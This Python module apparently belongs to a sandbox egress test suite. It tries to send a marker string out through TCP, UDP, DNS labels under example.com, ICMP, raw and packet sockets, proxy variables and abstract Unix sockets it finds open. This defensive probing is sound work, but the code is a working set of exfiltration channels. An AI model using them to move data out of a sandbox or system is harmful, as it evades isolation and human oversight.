"""Attempts that need the network, or a socket that somebody left open."""

import os
import socket
import struct
import time

from .marker import MARKER

TIMEOUT_S = 0.8
PAYLOAD = MARKER.encode()
ETH_P_IP = 0x0800


def connect(kind, address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    opened = socket.socket(family, kind)
    opened.settimeout(TIMEOUT_S)
    opened.connect((address, port))
    return opened


def say_over_tcp(address, port):
    with connect(socket.SOCK_STREAM, address, port) as opened:
        opened.sendall(b"GET /" + PAYLOAD + b" HTTP/1.0\r\n\r\n")
        return "connected"


def say_over_udp(address, port):
    """One way is enough for stealing, but whether it arrived only the other side knows; an answer is a success here."""
    with connect(socket.SOCK_DGRAM, address, port) as opened:
        opened.send(PAYLOAD)
        return opened.recv(512)


def ask_resolver(address):
    """The stolen thing is the name that is asked for."""
    labels = b"".join(bytes([len(part)]) + part for part in (PAYLOAD, b"example", b"com"))
    query = os.urandom(2) + struct.pack("!HHHHH", 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)
    with connect(socket.SOCK_DGRAM, address, 53) as opened:
        opened.send(query)
        answer = opened.recv(512)
        return answer if len(answer) > 3 and answer[3] & 15 == 0 else None


def ask_system_resolver():
    return socket.getaddrinfo(f"{MARKER}-{int(time.time())}.example.com", 443)


def ping(address):
    is_v6 = ":" in address
    family = socket.AF_INET6 if is_v6 else socket.AF_INET
    protocol = socket.IPPROTO_ICMPV6 if is_v6 else socket.IPPROTO_ICMP
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as opened:
        opened.settimeout(TIMEOUT_S)
        opened.sendto(bytes([128 if is_v6 else 8, 0, 0, 0, 0, 1, 0, 1]) + PAYLOAD, (address, 0))
        return opened.recv(512)


def send_raw(address):
    """With a raw socket one could speak any protocol; having one at all is a success."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_RAW, 253) as opened:
        try:
            opened.sendto(PAYLOAD, (address, 0))
        except OSError:
            pass
        return "raw socket"


def send_frame():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as opened:
        return f"packet socket {opened.fileno()}"


def use_proxy(name):
    value = os.environ.get(name) or os.environ.get(name.upper())
    if not value:
        return None
    host, _, port = value.rpartition("//")[2].rstrip("/").rpartition(":")
    return say_over_tcp(host.rpartition("@")[2], int(port))


def speak_to_socket(path):
    with socket.socket(socket.AF_UNIX) as opened:
        opened.settimeout(TIMEOUT_S)
        opened.connect(path)
        return "connected"


def find_abstract_sockets():
    """Abstract names belong to the network namespace: any that we did not make is somebody else's door."""
    with open("/proc/net/unix", encoding="utf-8", errors="replace") as file:
        names = [line.split()[-1] for line in file if line.split()[-1].startswith("@")]
    return [name for name in names if can_connect("\0" + name[1:])]


def can_connect(name):
    try:
        return speak_to_socket(name)
    except OSError:
        return None
